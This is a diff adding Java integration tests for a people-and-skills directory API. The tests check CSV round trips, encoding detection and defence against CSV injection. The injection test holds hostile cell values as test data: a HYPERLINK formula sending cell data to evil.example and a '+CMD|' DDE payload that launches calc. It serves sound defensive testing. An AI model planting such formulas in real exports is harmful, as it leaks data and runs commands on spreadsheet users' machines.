@@ -2,21 +2,42 @@ package org.sharedict.skills.directory;
 
 import static io.restassured.RestAssured.given;
 import static org.hamcrest.Matchers.contains;
+import static org.hamcrest.Matchers.containsInAnyOrder;
 import static org.hamcrest.Matchers.containsString;
+import static org.hamcrest.Matchers.endsWith;
 import static org.hamcrest.Matchers.equalTo;
 import static org.hamcrest.Matchers.hasItem;
 import static org.hamcrest.Matchers.startsWith;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 import static org.sharedict.skills.support.Fixtures.unique;
 import static org.sharedict.testing.Problems.invalidField;
 import static org.sharedict.testing.Problems.problem;
 
+import java.io.IOException;
+import java.io.StringReader;
+import java.io.UncheckedIOException;
+import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
+import java.util.Random;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.junit.jupiter.api.Test;
+import org.sharedict.skills.directory.PeopleCsv.Verification;
 import org.sharedict.skills.support.Fixtures;
+import org.sharedict.skills.support.RandomPeople;
+import org.sharedict.skills.support.TestClock;
 import org.sharedict.testing.Tokens;
 
 import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.config.EncoderConfig;
+import io.restassured.config.RestAssuredConfig;
+import io.restassured.http.ContentType;
 
 @QuarkusTest
 class PeopleCsvTest {
@@ -151,4 +172,211 @@ class PeopleCsvTest {
         given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id + "/skills/" + skill).then().body("verified", equalTo(true));
         given().auth().oauth2(Tokens.admin()).when().get("/api/people/export?partner=NOPE" + unique("")).then().spec(invalidField("partner"));
     }
+
+    /**
+     * Random people put in through the API (quotes, commas, {@code ; | : \}, line breaks,
+     * formulas, phone numbers with {@code +}, accents, emoji, empty optional fields, several
+     * skills, renewed certifications), exported, deleted, and imported back from the export: every
+     * value is as it was, and exporting again gives the same file byte for byte.
+     */
+    @Test
+    void exportedPeopleImportBackEqual() {
+        long seed = Long.getLong("test.seed", System.nanoTime());
+        Random random = new Random(seed);
+        RandomPeople generator = new RandomPeople(random, TestClock.today());
+        String category = Fixtures.category();
+        List<String> skills = List.of(Fixtures.skill(category, unique("Round ")), Fixtures.skill(category, unique("Trip ")),
+                Fixtures.skill(category, unique("Every ")), Fixtures.skill(category, unique("Value ")));
+        List<String> partners = List.of(Fixtures.partner(), Fixtures.partner());
+        Map<String, Long> ids = new HashMap<>();
+        for (int n = 0; n < 12; n++) {
+            PeopleCsv.Line line = generator.person(partners.get(n % 2), unique(".").toLowerCase(), skills, false);
+            ids.put(line.email(), create(line, seed));
+        }
+        Map<String, Map<String, Object>> before = new HashMap<>();
+        ids.forEach((email, id) -> before.put(email, stored(id)));
+        List<String> exports = partners.stream().map(PeopleCsvTest::export).toList();
+
+        ids.values().forEach(id -> given().auth().oauth2(Tokens.admin()).when().delete("/api/people/" + id).then().statusCode(204));
+        for (String csv : exports) {
+            given().auth().oauth2(Tokens.admin()).contentType("text/csv; charset=UTF-8").body(csv.getBytes(StandardCharsets.UTF_8))
+                    .when().post("/api/people/import")
+                    .then().statusCode(200).body("created", equalTo(6)).body("encoding", equalTo("UTF-8"));
+        }
+
+        for (String email : ids.keySet()) {
+            long id = given().auth().oauth2(Tokens.admin()).queryParam("email", email).when().get("/api/people")
+                    .then().body("totalItems", equalTo(1)).extract().jsonPath().getLong("items[0].id");
+            assertEquals(before.get(email), stored(id), "seed " + seed + ", " + email);
+        }
+        assertEquals(exports, partners.stream().map(PeopleCsvTest::export).toList(), "seed " + seed);
+    }
+
+    private static long create(PeopleCsv.Line l, long seed) {
+        Map<String, Object> body = new HashMap<>();
+        body.put("partner", l.partner());
+        body.put("name", l.name());
+        body.put("email", l.email());
+        body.put("jobTitle", l.jobTitle());
+        body.put("team", l.team());
+        body.put("workPhone", l.workPhone());
+        body.put("mobile", l.mobile());
+        body.put("site", l.site());
+        body.put("manager", l.manager());
+        body.put("helpOtherPartners", l.helpOtherPartners());
+        body.put("helpHoursPerMonth", l.helpHoursPerMonth());
+        body.put("outOfHours", l.outOfHours());
+        body.put("unavailableUntil", l.unavailableUntil() == null ? null : l.unavailableUntil().toString());
+        body.put("unavailableReason", l.unavailableReason());
+        body.put("lastConfirmed", l.lastConfirmed().toString());
+        long id = given().auth().oauth2(Tokens.admin()).contentType(ContentType.JSON).body(body).when().post("/api/people")
+                .then().statusCode(201).body("name", equalTo(l.name())).extract().jsonPath().getLong("id");
+        for (PeopleCsv.SkillCell s : l.skills()) {
+            given().auth().oauth2(Tokens.admin()).contentType(ContentType.JSON)
+                    .body(Map.of("skill", s.term(), "level", s.level(), "verified", s.verification() == Verification.VERIFIED))
+                    .when().post("/api/people/" + id + "/skills").then().statusCode(201);
+        }
+        for (PeopleCsv.CertCell c : l.certifications()) {
+            Map<String, Object> cert = new HashMap<>();
+            cert.put("name", c.name());
+            cert.put("issuer", c.issuer());
+            cert.put("number", c.number());
+            cert.put("obtained", c.obtained() == null ? null : c.obtained().toString());
+            cert.put("expires", c.expires() == null ? null : c.expires().toString());
+            cert.put("skill", c.skill());
+            given().auth().oauth2(Tokens.admin()).contentType(ContentType.JSON).body(cert)
+                    .when().post("/api/people/" + id + "/certifications").then().statusCode(201).body("name", equalTo(c.name()));
+        }
+        return id;
+    }
+
+    /** What the API answers about a person, less what the CSV does not carry (IDs, versions, times, per-skill dates). */
+    private static Map<String, Object> stored(long id) {
+        Map<String, Object> person = new HashMap<>(given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id)
+                .then().statusCode(200).extract().jsonPath().getMap(""));
+        List.of("id", "version", "createdAt", "updatedAt").forEach(person::remove);
+        List<Map<String, Object>> skills = given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id + "/skills")
+                .then().statusCode(200).extract().jsonPath().getList("");
+        person.put("skills", skills.stream().map(s -> List.of(s.get("skill"), s.get("level"), s.get("verified"))).toList());
+        List<Map<String, Object>> certs = given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id + "/certifications")
+                .then().statusCode(200).extract().jsonPath().getList("");
+        person.put("certifications", certs.stream().map(c -> {
+            Map<String, Object> kept = new HashMap<>(c);
+            List.of("id", "version", "updatedAt").forEach(kept::remove);
+            return kept;
+        }).toList());
+        return person;
+    }
+
+    private static String export(String partner) {
+        return given().auth().oauth2(Tokens.viewer("X")).when().get("/api/people/export?partner=" + partner)
+                .then().statusCode(200).extract().asString();
+    }
+
+    @Test
+    void excelsWindows1252FileIsReadAsWindows1252() {
+        String partner = Fixtures.partner();
+        String email = unique("zoe").toLowerCase() + "@csv.example.gov.uk";
+        byte[] cp1252 = ("partner,name,email,site\r\n" + partner + ",Zoë Brontë," + email + ",Café – Hall €\r\n")
+                .getBytes(Charset.forName("windows-1252"));
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv").body(cp1252)
+                .when().post("/api/people/import")
+                .then().statusCode(200).body("created", equalTo(1)).body("encoding", equalTo("windows-1252"));
+        given().auth().oauth2(Tokens.admin()).when().get("/api/people?email=" + email)
+                .then().body("items[0].name", equalTo("Zoë Brontë")).body("items[0].site", equalTo("Café – Hall €"));
+    }
+
+    @Test
+    void utf16AndUtf8WithByteOrderMarksAreRead() {
+        String partner = Fixtures.partner();
+        String a = unique("lukasz").toLowerCase() + "@csv.example.gov.uk";
+        String b = unique("sian").toLowerCase() + "@csv.example.gov.uk";
+        byte[] utf16 = ("\uFEFFpartner,name,email\r\n" + partner + ",Łukasz Żółć 😀," + a + "\r\n").getBytes(StandardCharsets.UTF_16LE);
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv").body(utf16)
+                .when().post("/api/people/import").then().statusCode(200).body("encoding", equalTo("UTF-16LE"));
+        byte[] utf8 = ("\uFEFFpartner,name,email\r\n" + partner + ",Siân Ó Súilleabháin," + b + "\r\n").getBytes(StandardCharsets.UTF_8);
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv").body(utf8)
+                .when().post("/api/people/import").then().statusCode(200).body("encoding", equalTo("UTF-8"));
+        given().auth().oauth2(Tokens.admin()).when().get("/api/people?partner=" + partner + "&sort=name")
+                .then().body("items.name", containsInAnyOrder("Siân Ó Súilleabháin", "Łukasz Żółć 😀"));
+    }
+
+    @Test
+    void aFileThatIsNotTextInItsEncodingIsRefusedNamingTheEncodingAndNothingIsStored() {
+        String partner = Fixtures.partner();
+        byte[] cp1252 = ("partner,name,email\r\n" + partner + ",Zoë," + unique("z").toLowerCase() + "@csv.example.gov.uk\r\n")
+                .getBytes(Charset.forName("windows-1252"));
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv; charset=UTF-8").body(cp1252)
+                .when().post("/api/people/import")
+                .then().spec(problem(415)).body("type", endsWith(":unsupported-encoding")).body("encoding", equalTo("UTF-8"))
+                .body("detail", startsWith("the file is not valid UTF-8: byte 0xEB")).body("errors.field", contains("body"));
+        byte[] neither = ("partner,name,email\r\n" + partner + ",Zo\u0081," + unique("z").toLowerCase() + "@csv.example.gov.uk\r\n")
+                .getBytes(StandardCharsets.ISO_8859_1);
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv").body(neither)
+                .when().post("/api/people/import")
+                .then().spec(problem(415)).body("detail", containsString("neither UTF-8 (byte 0x81 at offset"));
+        byte[] damaged = ("partner,name,email\r\n" + partner + ",Zo\uFFFD," + unique("z").toLowerCase() + "@csv.example.gov.uk\r\n")
+                .getBytes(StandardCharsets.UTF_8);
+        given().auth().oauth2(Tokens.admin()).config(RAW).contentType("text/csv").body(damaged)
+                .when().post("/api/people/import").then().spec(invalidField("body"));
+        given().auth().oauth2(Tokens.admin()).when().get("/api/people?partner=" + partner).then().body("totalItems", equalTo(0));
+    }
+
+    /** OWASP CSV injection: no cell of any CSV export starts with a character a spreadsheet runs as a formula. */
+    @Test
+    void noCsvExportWritesACellASpreadsheetWouldRun() {
+        String partner = Fixtures.partner();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        String category = Fixtures.category();
+        String skill = Fixtures.skill(category, "@SUM(1+1)" + unique(" "));
+        Map<String, Object> body = Fixtures.personBody(partner, formula);
+        body.put("mobile", "+44 7700 900123");
+        body.put("jobTitle", "-2+3");
+        body.put("lastConfirmed", TestClock.today().minusYears(2).toString());
+        long id = Fixtures.person(body);
+        Fixtures.holds(id, skill, 4, true);
+        given().auth().oauth2(Tokens.admin()).contentType(ContentType.JSON).body(Map.of("name", "+CMD|' /C calc'!A0"))
+                .when().post("/api/people/" + id + "/certifications").then().statusCode(201);
+        List<String> csvs = List.of(export(partner),
+                report("/api/reports/skills/key-person-risk?format=csv&partner=" + partner),
+                report("/api/reports/skills/coverage?format=csv&category=" + category),
+                report("/api/reports/skills/stale?format=csv&partner=" + partner));
+        for (String csv : csvs) {
+            List<String> cells = cells(csv);
+            assertTrue(cells.stream().noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0), csv);
+        }
+        assertTrue(cells(csvs.get(0)).containsAll(List.of("'" + formula, "'+44 7700 900123", "'-2+3", "'+CMD\\|' /C calc'!A0")), csvs.get(0));
+        assertTrue(cells(csvs.get(1)).contains("'" + formula), csvs.get(1));
+        assertTrue(cells(csvs.get(2)).stream().anyMatch(c -> c.startsWith("'@SUM(1+1)")), csvs.get(2));
+        assertTrue(cells(csvs.get(3)).contains("'" + formula), csvs.get(3));
+        // ...and the people export still imports back as it was.
+        given().auth().oauth2(Tokens.admin()).contentType("text/csv; charset=UTF-8").body(csvs.get(0).getBytes(StandardCharsets.UTF_8))
+                .when().post("/api/people/import?dryRun=true").then().statusCode(200).body("updated", equalTo(1));
+        given().auth().oauth2(Tokens.admin()).contentType("text/csv; charset=UTF-8").body(csvs.get(0).getBytes(StandardCharsets.UTF_8))
+                .when().post("/api/people/import").then().statusCode(200);
+        given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id)
+                .then().body("name", equalTo(formula)).body("mobile", equalTo("+44 7700 900123")).body("jobTitle", equalTo("-2+3"));
+        given().auth().oauth2(Tokens.admin()).when().get("/api/people/" + id + "/certifications")
+                .then().body("name", contains("+CMD|' /C calc'!A0"));
+    }
+
+    private static String report(String path) {
+        return given().auth().oauth2(Tokens.viewer("X")).when().get(path).then().statusCode(200)
+                .contentType(startsWith("text/csv")).extract().asString();
+    }
+
+    /** Every cell as a spreadsheet reads it (RFC 4180 quoting undone, nothing else). */
+    private static List<String> cells(String csv) {
+        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
+            List<String> out = new ArrayList<>();
+            parser.forEach(r -> r.forEach(out::add));
+            return out;
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Bytes exactly as given: REST Assured otherwise adds {@code charset=ISO-8859-1} to a text/csv without one. */
+    private static final RestAssuredConfig RAW = RestAssuredConfig.config()
+            .encoderConfig(EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false));
 }
